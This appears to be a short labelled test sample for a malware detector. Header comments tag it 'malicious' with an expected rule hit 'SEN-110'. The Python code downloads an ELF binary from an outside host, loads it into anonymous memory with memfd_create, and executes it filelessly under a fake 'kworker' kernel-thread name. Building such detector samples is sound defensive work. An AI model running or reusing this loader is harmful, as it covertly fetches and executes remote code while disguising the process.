# does: downloads a program into anonymous memory and runs it from there
# kind: malicious
# expect: SEN-110 high medium
# fast: yes
import os
import urllib.request

program = urllib.request.urlopen("http://get.quick-setup.sh/stage2.elf").read()
fd = os.memfd_create("kworker", 0)
os.write(fd, program)
os.execve(f"/proc/self/fd/{fd}", ["kworker/0:1"], {})
